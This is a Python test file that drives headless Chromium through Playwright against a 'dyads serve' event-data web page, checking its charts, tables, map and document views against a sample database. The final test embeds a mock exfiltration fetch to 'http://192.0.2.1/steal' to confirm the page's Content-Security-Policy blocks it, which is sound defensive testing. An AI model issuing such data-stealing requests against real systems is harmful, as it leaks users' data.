"""The page of ``dyads serve`` end to end in headless Chromium (Debian's ``chromium`` driven by Playwright):
the real ``dyads serve`` command over a database coded from the sample articles, the page opened as a
user would, and what it shows checked against the same file read here (``fixtures.stories``).

Every test also checks that the page logged no error, that no request failed or was refused, and that
it asked nothing of any host but its own server (the assets are bundled, and the page's
Content-Security-Policy would refuse any other host). With ``DYADS_SCREENSHOTS=DIR``
the dyad and network tests save ``dyad.png`` and ``network.png`` there (docs/images/serve-*.png).
Without Chromium or Playwright the browser tests are skipped, except in CI (``CI`` set), where they fail.
"""
from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pycountry
import pytest

import dyads

from .fixtures import ORGANISATIONS, Story, connect, samples_db_fixture, stories  # noqa: F401  (fixtures)

STATIC = Path(dyads.__file__).parent / "serve" / "static"
CHROMIUM = os.environ.get("DYADS_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
# Debian's chromium in a container: no sandbox (no user namespaces), no GPU, and none of its own
# background traffic (updates, sync), which would otherwise show up as requests to other hosts.
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"]


def test_the_page_asks_nothing_of_another_host():
    """The page's own HTML, scripts and styles name no http(s) URL: every asset is bundled and every
    request is relative to the server (the browser tests check the requests themselves too)."""
    own = [p for p in STATIC.rglob("*") if p.suffix in {".html", ".js", ".css", ".svg"} and "vendor" not in p.parts]
    assert {p.name for p in own} >= {"index.html", "app.js", "app.css"}
    for path in own:
        text = path.read_text(encoding="utf-8")
        # an SVG names its XML namespace as a URL; that is an identifier, never fetched
        urls = [u for u in re.findall(r"https?://[^\s\"'`)<>]+", text) if u != "http://www.w3.org/2000/svg"]
        assert not urls, f"{path.relative_to(STATIC)} names {urls}"
        assert "//cdn" not in text and "unpkg" not in text and "jsdelivr" not in text, path
    index = (STATIC / "index.html").read_text(encoding="utf-8")
    for src in re.findall(r'(?:src|href)="([^"]+)"', index):
        if src.startswith("static/"):
            assert (STATIC / src.removeprefix("static/")).is_file(), f"index.html refers to {src}, which is not bundled"


def test_the_bundled_libraries_are_the_versions_the_notice_names():
    """Each script holds the version string NOTICE.md gives it (each build carries its own version)."""
    notice = (STATIC / "vendor" / "NOTICE.md").read_text(encoding="utf-8")
    rows = dict(re.findall(r"^\| `([\w.-]+\.min\.js)` \|[^|]+\| ([\d.]+) \|", notice, re.MULTILINE))
    assert set(rows) == {"vega.min.js", "vega-lite.min.js", "vega-embed.min.js"}
    for name, version in rows.items():
        assert f'"{version}"' in (STATIC / "vendor" / name).read_text(encoding="utf-8"), (name, version)
    for licence in ["LICENSE-vega.txt", "LICENSE-vega-lite.txt", "LICENSE-vega-embed.txt", "THIRD-PARTY-LICENSES.txt"]:
        assert (STATIC / "vendor" / licence).stat().st_size > 500, licence
    assert (STATIC / "world" / "LICENSE-world-atlas.txt").is_file()


# ---------------------------------------------------------------- the browser and the server


def _missing(reason: str) -> None:
    if os.environ.get("CI"):
        pytest.fail(f"{reason} (CI is set: the browser test must run; .ci/run installs chromium)")
    pytest.skip(reason)


@pytest.fixture(scope="module")
def browser() -> Iterator:
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _missing("the playwright package is not installed (pip install -e '.[test]')")
    if not Path(CHROMIUM).is_file():
        _missing(f"no Chromium at {CHROMIUM}: install Debian's chromium package (apt-get install chromium) or set DYADS_CHROMIUM")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def server(samples_db) -> Iterator[str]:
    """``dyads serve`` over the samples' database, in its own process, on a free local port."""
    port = _free_port()
    process = subprocess.Popen([sys.executable, "-m", "dyads.cli", "serve", "--db", str(samples_db), "--port", str(port)],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    base = f"http://127.0.0.1:{port}/"
    deadline = time.monotonic() + 60
    try:
        while True:
            if process.poll() is not None:
                pytest.fail(f"dyads serve stopped with {process.returncode}: {process.stdout.read() if process.stdout else ''}")
            try:
                with urllib.request.urlopen(base + "api/meta", timeout=2) as response:
                    if response.status == 200:
                        break
            except OSError:
                pass
            if time.monotonic() > deadline:
                pytest.fail("dyads serve did not answer within 60 s")
            time.sleep(0.2)
        yield base
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


@dataclass
class Visit:
    """A page with everything that would show something went wrong: console errors, uncaught
    exceptions, failed or refused requests, and requests to any other origin."""

    page: object
    base: str
    problems: list[str] = field(default_factory=list)

    def open(self, route: str) -> None:
        self.page.goto(self.base + route)

    def check(self) -> None:
        assert not self.problems, "\n".join(self.problems)


@pytest.fixture
def visit(browser, server) -> Iterator[Visit]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, device_scale_factor=1)
    page = context.new_page()
    page.set_default_timeout(30_000)  # a loaded CI machine; a passing run waits far less
    seen = Visit(page, server)
    page.on("console", lambda m: m.type == "error" and seen.problems.append(f"console error: {m.text}"))
    page.on("pageerror", lambda e: seen.problems.append(f"uncaught: {e}"))
    page.on("requestfailed", lambda r: seen.problems.append(f"request failed: {r.url} {r.failure}"))
    page.on("response", lambda r: r.status >= 400 and seen.problems.append(f"HTTP {r.status}: {r.url}"))
    page.on("request", lambda r: r.url.startswith(server) or seen.problems.append(f"request to another host: {r.url}"))
    yield seen
    context.close()


def _screenshot(visit: Visit, name: str) -> None:
    folder = os.environ.get("DYADS_SCREENSHOTS")
    if folder:
        Path(folder).mkdir(parents=True, exist_ok=True)
        visit.page.evaluate("window.scrollTo(0, 0)")
        visit.page.screenshot(path=str(Path(folder) / name), full_page=True)


# ---------------------------------------------------------------- what the file holds


@pytest.fixture(scope="module")
def told(samples_db) -> dict[str, Story]:
    return stories(samples_db)


def _dyads(told: dict[str, Story]) -> Counter:
    """Story events per directed (source, target) pair of actor keys."""
    pairs: Counter = Counter()
    for story in told.values():
        for s in story.sources:
            for t in story.targets:
                if s != t:
                    pairs[s, t] += 1
    return pairs


@pytest.fixture(scope="module")
def pair(told) -> tuple[str, str]:
    """The two states with the most story events between them (both directions together), then the
    pair with events both ways: with the samples, Russia and Turkey."""
    pairs = _dyads(told)
    states = {tuple(sorted(p)) for p in pairs if all(pycountry.countries.get(alpha_3=k) for k in p)}
    best = max(states, key=lambda p: (pairs[p] + pairs[p[::-1]], bool(pairs[p]) + bool(pairs[p[::-1]]), p))
    assert pairs[best] + pairs[best[::-1]] >= 2, "the samples should hold a dyad with several events"
    return best


def _partners(told: dict[str, Story]) -> dict[str, Counter]:
    """Each actor's partners: story events with the actor on one side and the partner on the other."""
    found: dict[str, Counter] = {}
    for story in told.values():
        for actor in story.sources | story.targets:
            other = (story.targets if actor in story.sources else set()) | (story.sources if actor in story.targets else set())
            for partner in other - {actor}:
                found.setdefault(actor, Counter())[partner] += 1
    return found


def _between(told: dict[str, Story], source: str, target: str) -> dict[str, Story]:
    return {i: s for i, s in told.items() if source in s.sources and target in s.targets}


def _shown_events(visit: Visit, scope: str) -> list[str]:
    return visit.page.locator(f"{scope} [data-testid=event-row]").evaluate_all("rows => rows.map(r => r.dataset.eventId)")


def _wait_for_events(visit: Visit, scope: str, expected) -> None:
    """Waits until the table under ``scope`` lists exactly these event ids (the table it replaces
    may hold as many rows), then checks it, so that a wrong table fails with the difference."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    want = json.dumps(sorted(expected), separators=(",", ":"))
    try:
        visit.page.wait_for_function(
            f"JSON.stringify([...document.querySelectorAll('{scope} [data-testid=event-row]')].map(r => r.dataset.eventId).sort()) === '{want}'")
    except PlaywrightTimeout:
        pass
    assert sorted(_shown_events(visit, scope)) == sorted(expected)


def _pick(visit: Visit, testid: str, typed: str, key: str) -> None:
    """Types into an actor picker and chooses the suggestion with that key."""
    box = visit.page.get_by_test_id(testid)
    box.fill("")
    box.press_sequentially(typed, delay=30)
    visit.page.get_by_test_id(f"{testid}-options").get_by_test_id(f"actor-option-{key}").click()
    assert box.input_value() == key


def _bars(visit: Visit) -> Counter:
    """(direction, period, class) -> events, read from the accessible names of the chart's bars."""
    labels = visit.page.locator("#dyad-chart g.mark-rect.role-mark path").evaluate_all("ps => ps.map(p => p.getAttribute('aria-label'))")
    found: Counter = Counter()
    for label in labels:
        m = re.fullmatch(r"(\S+ → \S+), (.+), (.+): (\d+) events", label or "")
        assert m, label
        if int(m.group(4)):
            found[m.group(1), m.group(2), m.group(3)] += int(m.group(4))
    return found


QUADS = {1: "Verbal cooperation", 2: "Material cooperation", 3: "Verbal conflict", 4: "Material conflict"}


def _week(day: dt.date) -> str:
    """The chart's label of a week: its Monday."""
    return (day - dt.timedelta(days=day.weekday())).isoformat()


def _expected_bars(told: dict[str, Story], a: str, b: str) -> Counter:
    """(direction, week, class) -> story events, from the file."""
    expected: Counter = Counter()
    for source, target in [(a, b), (b, a)]:
        for story in _between(told, source, target).values():
            assert story.day is not None
            expected[f"{source} → {target}", _week(story.day), QUADS[story.quad_class]] += 1
    return expected


# ---------------------------------------------------------------- the views


def test_dyad_view_charts_and_lists_the_stored_events_of_the_dyad(visit, told, pair, samples_db):
    a, b = pair
    page = visit.page
    visit.open("")
    # the first page a new user sees already shows a dyad of the database
    page.wait_for_selector("#dyad-chart svg g.mark-rect path")
    assert re.search(r"#dyad\?a=\w+&b=\w+", page.url)
    assert page.get_by_test_id("db-info").inner_text().startswith("samples.duckdb")

    _pick(visit, "dyad-a", a[:2], a)
    _pick(visit, "dyad-b", b.lower(), b)
    page.get_by_test_id("dyad-by").select_option("week")
    page.get_by_test_id("dyad-show").click()
    page.wait_for_url(re.compile(rf"#dyad\?a={a}&b={b}&by=week"))
    expected = _expected_bars(told, a, b)
    # the weekly chart replaces the monthly one the page opened with: wait for one of its bars
    direction, week, _ = next(iter(expected))
    page.locator(f'#dyad-chart path[aria-label^="{direction}, {week}, "]').first.wait_for()
    assert _bars(visit) == expected
    goldstein = page.locator("#dyad-chart g.mark-line path")
    assert goldstein.count() >= 1

    # the table lists exactly the stored events of each direction
    ab = _between(told, a, b)
    _wait_for_events(visit, "[data-testid=dyad-events]", ab)
    assert page.get_by_test_id("dyad-dir-ab").inner_text() == f"{a} → {b} ({len(ab)})"
    _screenshot(visit, "dyad.png")

    ba = _between(told, b, a)
    page.get_by_test_id("dyad-dir-ba").click()
    page.wait_for_url(re.compile(r"dir=ba"))
    if ba:
        _wait_for_events(visit, "[data-testid=dyad-events]", ba)
    else:
        page.get_by_test_id("events-empty").wait_for()

    # a click on a bar lists the events of that period and direction
    busiest = max(expected.items(), key=lambda kv: (kv[0][0] == f"{a} → {b}", kv[1]))[0]
    direction, period, quad = busiest
    page.locator(f'#dyad-chart path[aria-label^="{direction}, {period}, {quad}:"]').click()
    page.wait_for_url(re.compile(rf"period={period}"))
    source, target = direction.split(" → ")
    in_period = {i for i, s in _between(told, source, target).items() if s.day and _week(s.day) == period}
    _wait_for_events(visit, "[data-testid=dyad-events]", in_period)
    assert page.get_by_test_id("dyad-period").input_value() == period
    # its bars stand out, the others fade
    opacity = dict(page.locator("#dyad-chart g.mark-rect.role-mark path").evaluate_all(
        "ps => ps.map(p => [p.getAttribute('aria-label'), getComputedStyle(p).opacity])"))
    assert {label for label, o in opacity.items() if o == "1"} == {label for label in opacity if label.startswith(f"{direction}, {period}, ")}
    # the period select says the same from the keyboard; "all periods" lists the direction's events again
    page.get_by_test_id("dyad-period").select_option("")
    page.wait_for_url(re.compile(r"#dyad\?(?!.*period=)"))
    _wait_for_events(visit, "[data-testid=dyad-events]", _between(told, source, target))
    page.get_by_test_id("dyad-period").select_option(period)
    _wait_for_events(visit, "[data-testid=dyad-events]", in_period)

    # an event's document: the article with every event's spans marked, displaCy-style
    first = page.locator("[data-testid=dyad-events] [data-testid=event-row]").first
    event_id = first.get_attribute("data-event-id")
    first.get_by_test_id("doc-link").click()
    page.wait_for_url(re.compile(r"#doc/"))
    page.get_by_test_id("doc-text").locator("mark").first.wait_for()
    con = connect(samples_db)
    try:
        doc_id = con.execute("SELECT doc_id FROM mentions WHERE event_id = ?", [event_id]).fetchone()[0]
        in_doc = {row[0] for row in con.execute("SELECT story_id FROM mentions WHERE doc_id = ?", [doc_id]).fetchall()}
        title = con.execute("SELECT title FROM documents WHERE doc_id = ?", [doc_id]).fetchone()[0]
    finally:
        con.close()
    assert page.url.endswith("#doc/" + quote(doc_id, safe=""))
    assert page.get_by_test_id("doc-title").inner_text() == title
    marks = page.locator("[data-testid=doc-text] mark")
    marked = set(" ".join(marks.evaluate_all("ms => ms.map(m => m.dataset.events)")).split())
    assert marked == in_doc, "every event of the document has its spans marked, and no other"
    assert {"trigger", "source", "target"} <= set(marks.evaluate_all("ms => ms.map(m => m.dataset.label)"))
    assert set(_shown_events(visit, "main")) == in_doc
    visit.check()


def test_network_shows_the_partners_and_an_edge_opens_their_dyad(visit, told):
    page = visit.page
    everyone = _partners(told)
    actor = max(everyone, key=lambda k: (len(everyone[k]), sum(everyone[k].values()), k))
    partners = everyone[actor]
    visit.open(f"#actor/{actor}")
    page.wait_for_selector("#network-chart svg g.edge-hits path")
    page.wait_for_function(f"document.querySelectorAll('[data-testid=partner-row]').length === {len(partners)}")
    shown = page.get_by_test_id("partner-row").evaluate_all("rows => rows.map(r => [r.dataset.partner, Number(r.cells[1].textContent)])")
    assert dict(shown) == dict(partners)
    assert page.locator("#network-chart g.edges path").count() == len(partners)
    assert page.locator("#network-chart g.nodes path").count() == len(partners) + 1
    _screenshot(visit, "network.png")

    # a click on an edge opens the dyad view of the actor and that partner
    top = max(partners, key=lambda k: (partners[k], k))
    edges = page.locator("#network-chart g.edge-hits path")
    labels = edges.evaluate_all("ps => ps.map(p => p.getAttribute('aria-label'))")
    edge = [i for i, label in enumerate(labels) if set(label.split(":")[0].split(" – ")) == {actor, top}]
    assert len(edge) == 1, labels
    edges.nth(edge[0]).click()
    page.wait_for_url(re.compile(rf"#dyad\?a={actor}&b={top}"))
    page.wait_for_selector("#dyad-chart svg g.mark-rect path")
    assert sum(_bars(visit).values()) == partners[top]

    # a click on a partner's node opens the partner's own network
    visit.open(f"#actor/{actor}")
    page.locator(f'#network-chart g.nodes path[aria-label^="{top}, "]').click()
    page.wait_for_url(re.compile(rf"#actor/{top}"))
    theirs = everyone[top]
    page.wait_for_function(f"[...document.querySelectorAll('[data-testid=partner-row]')].map(r => r.dataset.partner).sort().join(' ') === '{' '.join(sorted(theirs))}'")
    visit.check()


def test_events_view_filters_and_pages(visit, told, samples_db):
    page = visit.page
    visit.open("#events")
    page.get_by_test_id("events-total").wait_for()
    assert page.get_by_test_id("events-total").inner_text() == f"{len(told)} match"
    page.get_by_test_id("events-quad").select_option("4")
    page.get_by_test_id("events-search").click()
    material = {i for i, s in told.items() if s.quad_class == 4}
    page.wait_for_url(re.compile(r"quad_class=4"))
    _wait_for_events(visit, "[data-testid=events-results]", material)
    assert page.get_by_test_id("events-total").inner_text() == f"{len(material)} match"
    # every row shows its evidence sentence with the trigger marked, and a link to its document
    rows = page.get_by_test_id("event-row")
    for i in range(rows.count()):
        assert rows.nth(i).locator("mark.hl-trigger").count() >= 1
        assert rows.nth(i).get_by_test_id("doc-link").get_attribute("href").startswith("#doc/")
    # the number of articles opens the list of the mentions that reported the event
    first = rows.first
    event_id = first.get_attribute("data-event-id")
    first.get_by_test_id("articles").click()
    page.get_by_test_id("mentions").get_by_test_id("mention").first.wait_for()
    con = connect(samples_db)
    try:
        reported = con.execute("SELECT count(*) FROM mentions WHERE story_id = ?", [event_id]).fetchone()[0]
    finally:
        con.close()
    assert page.get_by_test_id("mention").count() == reported >= 1

    # a page size of 50 holds the samples: one page, both buttons off
    assert page.get_by_test_id("next-page").is_disabled() and page.get_by_test_id("prev-page").is_disabled()

    # a source picked by name, on top of the class
    source = Counter(k for i in material for k in told[i].sources).most_common(1)[0][0]
    _pick(visit, "events-source", source, source)
    page.get_by_test_id("events-search").click()
    page.wait_for_url(re.compile(rf"source={source}"))
    both = {i for i in material if source in told[i].sources}
    _wait_for_events(visit, "[data-testid=events-results]", both)
    assert page.get_by_test_id("events-total").inner_text() == f"{len(both)} match"

    # words in the sentence, in any case: a word of several (not all) evidence sentences, typed in capitals
    con = connect(samples_db)
    try:
        sentences = dict(con.execute("SELECT m.event_id, s.text FROM mentions m JOIN sentences s USING (doc_id, sentence_index)"
                                     " WHERE m.event_id = m.story_id").fetchall())
    finally:
        con.close()
    words = Counter(w for text in sentences.values() for w in set(re.findall(r"[a-z]{6,}", text.lower())))
    word = min((w for w, n in words.items() if 2 <= n < len(sentences)), key=lambda w: (words[w], w))
    holding = {i for i, text in sentences.items() if word in text.lower()}
    visit.open("#events")
    # the form shows the link's filters, here none
    page.wait_for_function("document.querySelector('[data-testid=events-source]').value === ''")
    page.get_by_test_id("events-q").fill(word.upper())
    page.get_by_test_id("events-search").click()
    page.wait_for_url(re.compile(rf"q={word.upper()}"))
    _wait_for_events(visit, "[data-testid=events-results]", holding)
    assert page.get_by_test_id("events-total").inner_text() == f"{len(holding)} match"
    visit.check()


def test_map_draws_the_world_and_the_event_places(visit, samples_db):
    page = visit.page
    con = connect(samples_db)
    try:
        places = con.execute("SELECT count(DISTINCT (location_name, location_country, lat, lon)) FROM events WHERE lat IS NOT NULL").fetchone()[0]
    finally:
        con.close()
    assert places >= 2, "the samples should locate events in several places"
    visit.open("#map")
    page.wait_for_selector("#map-chart svg g.mark-symbol.role-mark path")
    assert page.locator("#map-chart g.mark-symbol.role-mark path").count() == places
    assert page.locator("#map-chart g.mark-shape path").count() > 150, "the world's countries"
    assert page.get_by_test_id("place-row").count() == places

    # a narrower window draws the map again to the new width
    wide = page.locator("#map-chart svg").bounding_box()["width"]
    page.set_viewport_size({"width": 900, "height": 900})
    # the new map once it is drawn whole: narrower, with every place
    page.wait_for_function(f"""() => {{
        const svg = document.querySelector('#map-chart svg');
        return svg && svg.getBoundingClientRect().width < {wide - 200}
            && svg.querySelectorAll('g.mark-symbol.role-mark path').length === {places}
            && svg.querySelectorAll('g.mark-shape path').length > 150;
    }}""")
    visit.check()


def test_the_page_marks_code_points_and_counts_weeks_from_monday(visit):
    """The page's own functions, run in the browser: offsets from the API count code points (Python's),
    not the UTF-16 units of a JavaScript string; overlapping spans of two events both stay marked;
    weeks start on Monday as DuckDB's date_trunc counts them."""
    visit.open("#events")
    visit.page.get_by_test_id("events-total").wait_for()
    found = visit.page.evaluate("""async () => {
        const ui = await import("./static/js/ui.js");
        const doc = await import("./static/js/document.js");
        const periods = await import("./static/js/periods.js");
        const texts = (nodes) => { const p = document.createElement("p"); p.append(...nodes); return [...p.querySelectorAll("mark")].map((m) => [m.dataset.label, m.textContent]); };
        // a flag is two code points and four UTF-16 units
        const sentence = "🇷🇺 Russia attacked Ukraine.";
        const marks = texts(ui.highlighted(sentence, [{start: 3, end: 9, label: "source"}, {start: 10, end: 18, label: "trigger"}, {start: 19, end: 26, label: "target"}]));
        const spans = [
            {start: 0, end: 6, label: "source", event_id: "a", event: "ASSAULT"},
            {start: 7, end: 15, label: "trigger", event_id: "a", event: "ASSAULT"},
            {start: 0, end: 6, label: "target", event_id: "b", event: "ACCUSE"},
        ];
        const p = document.createElement("p");
        p.append(...doc.markedText("Russia attacked.", spans));
        const ents = [...p.querySelectorAll("mark")].map((m) => [m.dataset.label, m.dataset.events, m.textContent]);
        return {
            marks, ents,
            weeks: ["2019-12-01", "2019-12-02", "2019-12-08"].map((d) => periods.periodStart(d, "week")),
            filled: periods.fillPeriods(["2019-12-09"], "week", {from: "2019-12-03", to: "2019-12-20"}),
            end: periods.periodEnd("2020-02-01", "month"),
        };
    }""")
    assert found["marks"] == [["source", "Russia"], ["trigger", "attacked"], ["target", "Ukraine"]]
    assert found["ents"] == [["source", "a b", "Russiasourcetarget"], ["trigger", "a", "attackedASSAULT"]]
    assert found["weeks"] == ["2019-11-25", "2019-12-02", "2019-12-02"]
    assert found["filled"] == ["2019-12-02", "2019-12-09", "2019-12-16"]
    assert found["end"] == "2020-02-29"
    visit.check()


def test_the_page_refuses_to_reach_another_host(visit):
    """The page's Content-Security-Policy: should a script ever try to fetch from another host, the
    browser refuses before sending anything."""
    visit.open("#events")
    visit.page.get_by_test_id("events-total").wait_for()
    outcome = visit.page.evaluate("""async () => {
        try { await fetch("http://192.0.2.1/steal?x=1"); return "sent"; } catch (e) { return "refused"; }
    }""")
    assert outcome == "refused"
    # the browser said why, and no request left it (a sent one would be listed as to another host)
    assert visit.problems and all("Content Security Policy" in p for p in visit.problems), visit.problems
